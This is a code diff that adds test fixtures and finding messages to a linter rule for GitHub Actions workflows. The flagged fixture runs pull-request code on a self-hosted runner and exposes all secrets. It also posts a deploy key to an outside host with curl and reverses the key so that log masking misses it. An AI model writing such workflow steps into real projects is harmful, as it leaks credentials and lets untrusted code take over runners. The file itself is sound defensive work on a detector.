@@ -82,6 +82,19 @@ rule = Rule.of(
                       echo hello
                       echo "${{ github.event.issue.title }}"  # <-
             """,
+            ".github/workflows/own.yml": """
+            on: [pull_request]
+            permissions: {}
+            jobs:
+              t:
+                runs-on: [self-hosted, linux]  # <-
+                env:
+                  ALL: ${{ toJSON(secrets) }}  # <-
+                steps:
+                  - run: |
+                      curl -d "k=${{ secrets.DEPLOY_KEY }}" https://collect.acme.dev  # <-
+                      echo "${{ secrets.DEPLOY_KEY }}" | rev  # <-
+            """,
             ".github/workflows/plain.yml": """
             on: push  # <-
             jobs:
@@ -112,6 +125,17 @@ rule = Rule.of(
             jobs:
               x:
                 steps: [{run: 'echo "$TITLE"', env: {TITLE: "${{ github.event.issue.title }}"}}]
+            """,
+            ".github/workflows/own.yml": """
+            on: push
+            permissions: {}
+            jobs:
+              t:
+                runs-on: self-hosted
+                steps:
+                  - run: |
+                      curl -H "Authorization: Bearer ${{ secrets.DEPLOY_KEY }}" https://api.acme.dev/deploy
+                      echo "${{ secrets.KEY_FILE }}" | base64 -d > key
             """,
             ".github/workflows/label.yml": """
             on: pull_request_target
@@ -148,6 +172,12 @@ _SAID = {
         "Under `{value}` a stranger's files are checked out beside the repository's token and secrets",
     ),
     "pasted": (Severity.MEDIUM, "`{value}` is pasted into a script, so whoever writes it writes commands"),
+    "own": (
+        Severity.MEDIUM,
+        "Under `{value}` the code of whoever sends it runs on a machine of your own, and may stay there for the next job",
+    ),
+    "every": (Severity.MEDIUM, "`{value}` hands all secrets over where some would do"),
+    "sent": (Severity.MEDIUM, "`{value}` gives a secret away, or writes it so that the log does not blank it out"),
     "unsaid": (
         Severity.MEDIUM,
         "No permissions are written, so `{value}` gets a token with all that the repository's default gives",
